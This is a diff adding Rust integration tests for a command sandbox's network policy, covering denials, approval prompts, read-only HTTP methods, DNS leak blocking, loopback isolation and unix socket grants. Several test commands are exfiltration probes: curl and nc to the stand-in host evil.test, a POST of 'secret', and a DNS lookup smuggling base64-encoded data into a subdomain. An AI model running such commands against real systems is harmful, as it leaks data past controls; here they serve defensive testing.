@@ -1,0 +1,185 @@
+//! What is asked, what is never let through, and what stays the command's own.
+
+use std::collections::BTreeSet;
+use std::io::Write as _;
+use std::net::TcpListener;
+use std::os::unix::net::UnixListener;
+use std::thread;
+use std::time::Duration;
+
+use stockade_protocol::{
+    Decision, DenyingRule, HostRule, HttpMethods, NetworkPolicy, NetworkProtocol, PermissionAmendment, ReviewDecision,
+};
+use stockade_sandbox_linux::{Bwrap, LandlockOnly, Native};
+use stockade_sandboxing::{Backend as _, CommandSpec, Plan as _, SpawnError, Stdio};
+
+use crate::world::{World, allow, server};
+
+#[test]
+fn a_denial_says_which_rule_would_allow_it() {
+    let (port, _) = server("a page");
+    let world = World::good(port);
+    let ended = world.run(&format!("curl -sS http://evil.test:{port}/"));
+    assert!(ended.stderr.contains("evil.test"), "{ended:?}");
+    let violations = world.trail.violations.lock().unwrap();
+    // Once for each address of the name that the program tried.
+    let [violation, ..] = violations.as_slice() else { panic!("nothing was denied") };
+    assert_eq!(violation.rule, Some(DenyingRule::NotGranted));
+    assert!(violation.program.as_ref().unwrap().to_string().ends_with("curl"), "{violation:?}");
+    assert!(violation.pid.is_some());
+    let least = HostRule { protocol: Some(NetworkProtocol::Tcp), ..allow("evil.test", port) };
+    assert_eq!(violation.amendment, Some(PermissionAmendment::Network(least)));
+}
+
+#[test]
+fn the_unknown_is_asked_for_once() {
+    let (port, _) = server("a page");
+    let world = World { person: Some(ReviewDecision::Approved), ..World::good(port) };
+    let line = format!("for n in 1 2 3; do curl -sS http://new.test:{port}/ & done; wait");
+    let ended = world.run(&line);
+    assert_eq!(ended.stdout, "a pagea pagea page", "{ended:?}");
+    let questions = world.trail.questions.lock().unwrap();
+    assert_eq!(questions.len(), 1, "{questions:?}");
+    assert!(questions[0].program.as_ref().unwrap().to_string().ends_with("curl"));
+}
+
+#[test]
+fn a_no_is_a_no() {
+    let (port, heard) = server("a page");
+    let world = World { person: Some(ReviewDecision::Denied { reason: None }), ..World::good(port) };
+    let ended = world.run(&format!("curl -sS http://new.test:{port}/"));
+    assert_eq!(ended.stdout, "");
+    assert!(heard.lock().unwrap().is_empty());
+}
+
+/// Reading only: what can be seen to write is denied, and so is what can't be seen.
+#[test]
+fn limited_is_looked_into() {
+    let (port, heard) = server("a page");
+    let mut world = World { methods: HttpMethods::ReadOnly, ..World::good(port) };
+    world.rules.push(allow("good.test", 443));
+    let ended = world.run(&format!(
+        "curl -sS http://good.test:{port}/; echo; curl -sS -d secret http://good.test:{port}/; \
+         curl -sS -H 'Host: evil.test' http://good.test:{port}/; curl -skS https://good.test:{port}/; curl -skS https://good.test/; \
+         printf 'EVIL\\r\\n\\r\\n' | nc -w 3 good.test {port}; true"
+    ));
+    assert!(ended.stdout.starts_with("a page\n"), "{ended:?}");
+    assert!(ended.stdout.contains("only GET, HEAD and OPTIONS"), "{ended:?}");
+    let heard = heard.lock().unwrap();
+    assert_eq!(heard.len(), 1, "{heard:?}");
+    assert!(world.trail.lines().contains(&String::from("good.test:443 Forbidden")), "{:?}", world.trail.lines());
+}
+
+/// px21: nothing that a command asks a resolver leaves the machine, whoever it asks.
+#[test]
+fn no_query_leaves() {
+    let world = World::good(1);
+    let ended = world.run(
+        "getent hosts $(echo secret | base64).evil.test; dig +time=1 +tries=1 +short leak.evil.test @192.0.2.53; \
+         dig +time=1 +tries=1 +short leak.evil.test; cat /etc/resolv.conf",
+    );
+    assert!(ended.stdout.contains("nameserver 127.0.0.1"), "{ended:?}");
+    assert!(ended.stdout.contains("198.18.") || ended.stdout.contains("fd53:"), "{ended:?}");
+    assert!(world.trail.lines().is_empty(), "a look-up is no connection: {:?}", world.trail.lines());
+}
+
+/// A server in one command is reached by the next of the same session, and by nobody else.
+#[test]
+fn loopback_is_shared_by_a_session() {
+    let (port, _) = server("outside");
+    // A port that the policy does not name: one that it names is the host's.
+    let own = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    let world = World::good(port);
+    let (session, run) = world.session();
+    thread::scope(|scope| {
+        scope.spawn(|| {
+            run(
+                &session,
+                &format!("cd /tmp && echo inside > page && timeout 20 python3 -m http.server {own} --bind 127.0.0.1"),
+            )
+        });
+        let line = format!(
+            "for n in $(seq 50); do curl -sf http://127.0.0.1:{own}/page && break; sleep 0.1; done; curl -sS http://good.test:{port}/; pkill -f http.server"
+        );
+        let client = run(&session, &line);
+        assert_eq!(client.stdout, "inside\noutside", "{client:?}");
+        assert!(world.run(&format!("curl -sf http://127.0.0.1:{own}/page")).stdout.is_empty(), "another sandbox");
+    });
+}
+
+/// A database or a proxy on this machine is reached by the address and port that the policy names.
+#[test]
+fn the_hosts_loopback_is_reached_where_it_is_named() {
+    let (port, _) = server("the host's");
+    let (other, heard) = server("not named");
+    let mut world = World::good(port);
+    world.rules = vec![allow("127.0.0.1", port)];
+    let ended = world.run(&format!("curl -sS http://127.0.0.1:{port}/; curl -sS http://localhost:{other}/"));
+    assert_eq!(ended.stdout, "the host's", "{ended:?}");
+    assert!(heard.lock().unwrap().is_empty(), "the other is the command's own loopback, where nobody listens");
+}
+
+#[test]
+fn named_unix_sockets_are_reached_and_no_others() {
+    let directory = tempfile::tempdir_in("/var/tmp").unwrap();
+    let place = |name: &str| directory.path().canonicalize().unwrap().join(name).to_str().unwrap().to_owned();
+    for name in ["granted.sock", "other.sock"] {
+        let listener = UnixListener::bind(place(name)).unwrap();
+        thread::spawn(move || {
+            for mut stream in listener.incoming().flatten() {
+                stream.write_all(b"hello").ok();
+            }
+        });
+    }
+    let line = format!(
+        "nc -U -w 2 {} </dev/null; nc -U -w 2 {} </dev/null; \
+        python3 -c 'import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)'",
+        place("granted.sock"),
+        place("other.sock")
+    );
+    let world = World { unix_sockets: BTreeSet::from([place("granted.sock").parse().unwrap()]), ..World::good(1) };
+    let ended = world.run(&line);
+    assert_eq!(ended.stdout, "hello", "{ended:?}");
+    assert!(ended.stderr.contains("PermissionError"), "{ended:?}");
+    assert_eq!(World::good(1).run(&line).stdout, "", "none without a grant");
+}
+
+/// What can't be held is refused before anything runs.
+#[test]
+fn nothing_runs_without_somebody_to_decide() {
+    let world = World::good(1);
+    let command = CommandSpec {
+        argv: stockade_protocol::Argv::parse(["/bin/true"]).unwrap(),
+        cwd: "/".parse().unwrap(),
+        environment: std::collections::BTreeMap::new(),
+    };
+    let plan = Native::new().plan(&command, &world.permissions()).unwrap();
+    assert!(matches!(plan.spawn(Stdio::default()), Err(SpawnError::Unenforceable(_))));
+    let mut datagrams = world.permissions();
+    let rule = HostRule { protocol: Some(NetworkProtocol::Udp), ..allow("good.test", 53) };
+    if let NetworkPolicy::Hosts(rules) = &mut datagrams.network {
+        rules.rules.push(rule.clone());
+    }
+    assert!(Native::new().compile(&command, &datagrams).is_err());
+    if let NetworkPolicy::Hosts(rules) = &mut datagrams.network {
+        rules.rules.retain(|own| *own != rule);
+        rules.rules.push(HostRule { decision: Decision::Forbidden, ..rule });
+    }
+    assert!(Native::new().compile(&command, &datagrams).is_ok());
+    for refused in [
+        Bwrap::new().compile(&command, &world.permissions()),
+        LandlockOnly::new().compile(&command, &world.permissions()),
+    ] {
+        assert!(refused.is_err());
+    }
+}
+
+/// The command's end does not wait for a connection that nobody answers.
+#[test]
+fn a_command_that_is_killed_while_it_waits_is_gone() {
+    let world = World { person: Some(ReviewDecision::Approved), ..World::good(1) };
+    let started = std::time::Instant::now();
+    let ended = world.run("timeout -s KILL 0.1 curl -sS http://new.test:1/; echo went on");
+    assert!(ended.stdout.contains("went on"), "{ended:?}");
+    assert!(started.elapsed() < Duration::from_secs(5));
+}
